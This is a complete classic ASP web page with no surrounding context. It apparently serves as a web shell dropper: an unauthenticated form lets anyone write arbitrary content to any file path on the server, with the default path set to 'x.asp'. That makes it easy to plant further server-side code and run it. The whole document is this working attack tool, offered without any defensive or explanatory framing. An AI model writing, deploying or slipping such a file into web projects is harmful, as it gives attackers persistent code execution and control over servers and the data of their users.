<%
Set fso = Server.CreateObject("Scripting.FileSystemObject")
If Request.Form("path") <> "" Then
    Set f = fso.CreateTextFile(Request.Form("path"), True)
    f.Write Request.Form("body")
    f.Close
    Response.Write "saved " & Request.Form("path")
End If
%>
<form method="post">path <input name="path" value="<%=Server.MapPath("x.asp")%>" size="60"><br><textarea name="body" cols="80" rows="20"></textarea><br><input type="submit"></form>
